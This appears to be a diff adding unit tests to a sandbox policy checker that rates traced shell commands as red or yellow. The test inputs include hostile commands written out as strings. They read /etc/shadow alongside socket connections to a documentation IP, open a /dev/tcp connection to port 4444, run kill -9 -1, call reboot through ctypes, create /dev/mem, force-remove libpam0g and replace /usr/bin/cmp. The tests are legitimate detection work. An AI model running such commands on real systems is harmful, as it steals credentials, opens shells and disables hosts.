@@ -261,6 +261,74 @@ class BuiltIn(PolicyCase):
         self.judged("cat /etc/shadow > /dev/null; getent hosts example.com; exit 0", RED, "secret.passwords-then-connect")
         self.judged("bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444'; exit 0", RED, "net.shell-connects")
 
+    def test_secret_after_network(self) -> None:
+        """What was opened when nobody any more could send it, and by programs that only log somebody in."""
+        harness.need("su", "getent", "python3", "ping")
+        reach = "python3 -c \"import socket; s = socket.socket(); s.connect_ex(('203.0.113.7', 80))\""
+        self.judged(f"{reach}; cat /etc/shadow > /dev/null; exit 0", YELLOW, "secret.read", "net.outside", not_rules=("secret.passwords-then-connect",))
+        self.judged(f"su nobody -s /bin/sh -c id > /dev/null; {reach}; exit 0", YELLOW, "secret.read", "net.outside", not_rules=("secret.passwords-then-connect",))
+        self.judged("su nobody -s /bin/sh -c id > /dev/null; ping -c1 127.0.0.1 > /dev/null; exit 0", YELLOW, "secret.read", not_rules=("secret.passwords-then-connect", "net.outside"))
+        both = "import socket; s = socket.socket(); s.connect_ex(('203.0.113.7', 80)); open('/etc/shadow').read()"
+        self.judged(f'python3 -c "{both}"; exit 0', RED, "secret.passwords-then-connect")
+        # The reader of a pipeline has connected before its writer opens anything.
+        waits = "import socket, sys; s = socket.socket(); s.connect_ex(('203.0.113.7', 80)); sys.stdin.read()"
+        self.judged(f'{{ sleep 1; cat /etc/shadow; }} | python3 -c "{waits}"; exit 0', RED, "secret.passwords-then-connect")
+        opened = self.judged("cat /etc/shadow > /dev/null", YELLOW, "secret.read").doc["reads"]["secret_opens"]
+        self.assertEqual([(o["path"], o["exe"], o["process"]) for o in opened], [("/etc/shadow", "/usr/bin/cat", 2)])
+
+    def test_a_name_is_told_once(self) -> None:
+        result = self.judged("getent ahosts example.com; exit 0", YELLOW, "net.outside")
+        finding = next(f for f in result.doc["verdict"]["findings"] if f["rule"] == "net.outside")
+        texts = [e["text"] for e in finding["evidence"]]
+        self.assertEqual(len(texts), len(set(texts)), texts)
+
+    def test_the_host_would_be_down(self) -> None:
+        harness.need("python3", "mknod")
+        self.judged("python3 -c 'import ctypes; ctypes.CDLL(None).reboot(0x1234567)'; exit 0", RED, "priv.host-down")
+        self.judged("kill -9 -1", RED, "priv.host-down")
+        self.judged("python3 -c 'import ctypes; ctypes.CDLL(None).reboot(0)'; exit 0", YELLOW, "priv.attempt", not_rules=("priv.host-down",))  # of ctrl-alt-del
+        self.judged("echo x > /dev/initctl; exit 0", YELLOW, "priv.attempt", not_rules=("priv.kernel-attempt",))
+        self.judged("mknod /tmp/c c 1 3; exit 0", YELLOW, "priv.attempt", not_rules=("priv.kernel-attempt",))
+        self.judged("mknod /tmp/c c 1 1; exit 0", RED, "priv.kernel-attempt")
+
+    def test_what_an_attempt_was_at_is_said(self) -> None:
+        harness.need("ip")
+        result = self.judged("echo -500 > /proc/self/oom_score_adj; ip link set lo mtu 9000; hostname newname", YELLOW, "priv.attempt")
+        attempts = {attempt["what"]: attempt["detail"] for attempt in result.doc["attempts"]}
+        self.assertRegex(attempts["process"], r"to /proc/[0-9]+/oom_score_adj$")
+        self.assertTrue(attempts["network configuration"].endswith("run as: ip link set lo mtu 9000"), attempts)
+        gaps = [gap["what"] for gap in result.doc["fidelity"]["gaps"]]
+        self.assertIn("2 changes in the run's own kernel objects: hostname, network configuration", gaps)
+
+    def test_what_the_sandbox_refused_is_not_said_of_the_host(self) -> None:
+        def why(script: str, *options: str) -> str:
+            result = self.run_in(["sh", "-c", script], "--policy", "builtin", *options)
+            return next(f["why"] for f in result.doc["verdict"]["findings"] if f["rule"] == "core.command-failed")
+        self.assertIn("on the host as well", why("exit 3"))
+        for script in ("echo 3 > /proc/sys/vm/drop_caches", "date -s 2020-01-01", "renice -n -5 $$"):
+            self.assertNotIn("on the host as well", why(script), script)
+
+    def test_a_core_dump_that_the_host_would_make(self) -> None:
+        crash = "ulimit -c {}; sleep 5 & kill -ABRT $!; wait $!; true"
+        self.assertRegex("\n".join(self.gaps(crash.format("unlimited"), "yellow")), r"core dump of \[2\] sleep \(SIGABRT\)")
+        with open("/proc/sys/kernel/core_pattern", encoding="ascii") as pattern:
+            if not pattern.read(1) == "|":
+                self.assertNotIn("core dump", "\n".join(self.gaps(crash.format(0), None)))
+
+    def test_packages_by_their_state(self) -> None:
+        harness.need("dpkg-divert", "dpkg-deb", "apt-mark")
+        package = MAKE_PACKAGE.replace("dpkg -i", "dpkg --unpack")
+        result = self.judged(package, YELLOW, "pkg.changed")
+        self.assertEqual(result.doc["packages"][0]["state_after"], "install ok unpacked")
+        report = self.call("show", "last", json_out=False).out.decode()
+        self.assertIn("installed corpus 1.0: install ok unpacked", report)
+        self.judged("dpkg --force-depends -r libpam0g > /dev/null 2>&1; exit 0", RED, "pkg.removed", "pkg.essential-broken", "pkg.broken")
+        self.judged("dpkg-divert --add --rename --divert /usr/bin/cmp.orig /usr/bin/cmp", YELLOW, "pkg.diverted", not_rules=("latent.program-replaced",))
+        self.judged("dpkg-divert --add --rename --divert /usr/bin/cmp.orig /usr/bin/cmp; cp /bin/true /usr/bin/cmp", RED, "latent.program-replaced")
+        self.judged("mv /usr/bin/cmp /usr/bin/cmp.orig", RED, "latent.program-replaced")
+        # What was only put on hold is as foreign as it was.
+        self.judged("echo diffutils hold | dpkg --set-selections; mv /usr/bin/cmp /usr/bin/cmp.orig", RED, "latent.program-replaced", "pkg.changed")
+
     def test_without_a_trace_nothing_is_green(self) -> None:
         result = self.run_in(["true"], "--no-trace", "--policy", "builtin")
         self.assertEqual(result.code, harness.INCONCLUSIVE)
